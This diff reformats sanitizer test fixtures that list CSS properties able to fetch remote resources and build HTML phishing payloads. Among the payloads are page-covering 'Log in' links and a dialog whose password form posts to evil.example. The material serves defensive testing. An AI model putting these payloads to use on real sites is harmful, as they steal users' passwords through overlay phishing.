@@ -2,7 +2,8 @@
 
 const EVIL = '//evil.example/x';
 const FETCHES = (
-  'background background-image border-image border-image-source list-style list-style-image cursor content mask mask-image filter clip-path ' +
+  'background background-image border-image border-image-source list-style list-style-image cursor content mask ' +
+  'mask-image filter clip-path ' +
   'shape-outside offset-path -webkit-mask-image -webkit-box-reflect fill stroke marker-start color-profile src --x'
 ).split(' ');
 const ADDRESSES = [
@@ -92,7 +93,8 @@ const POSITIONED = (
 ).split(' ');
 const covering = COVERS.flatMap((cover, i) => [
   `<a href="https://evil.example/" style="${cover}">Log in</a>`,
-  `<div class="${POSITIONED[i % POSITIONED.length]!}" style="${cover}"><a class="cms-notice" href="https://evil.example/" style="${cover}">Log in</a></div>`,
+  `<div class="${POSITIONED[i % POSITIONED.length]!}" style="${cover}">` +
+    `<a class="cms-notice" href="https://evil.example/" style="${cover}">Log in</a></div>`,
   `<dialog open style="${cover}"><form action="https://evil.example/"><input type=password></form></dialog>`,
   `<table style="${cover}"><tr><td style="${cover}">x</td></tr></table>`,
 ]);
